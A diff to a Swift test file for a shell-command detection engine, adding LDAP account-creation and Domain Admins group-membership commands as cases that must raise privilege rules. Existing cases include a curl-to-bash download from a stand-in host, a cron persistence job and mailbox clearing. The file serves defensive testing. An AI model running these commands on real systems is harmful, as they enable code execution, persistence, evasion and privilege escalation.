@@ -119,6 +119,8 @@ import Testing
         ("echo 'curl -s https://e.example/x | bash' > i.sh; . ./i.sh", "shell.rce.download_to_shell"),
         ("echo '* * * * * /tmp/evil.sh' > /tmp/c && crontab /tmp/c", "shell.persistence.cron_temp_program"),
         ("echo 0> /var/spool/mail/root", "shell.evasion.clear_mailbox"),
+        ("echo \"dn: cn=x,dc=e\\nobjectClass: person\\nmemberOf: CN=Domain Admins,CN=Users\" > a.ldif; ldapadd -x -f a.ldif", "shell.privilege.admin_group"),
+        ("echo \"dn: cn=x,dc=e\\nobjectClass: inetOrgPerson\" > a.ldif; ldapadd -x -f a.ldif", "shell.privilege.create_account"),
     ])
     func ruleFires(command: String, rule: String) {
         #expect(rules(command).contains(rule), "\(command) should raise \(rule); got \(rules(command))")
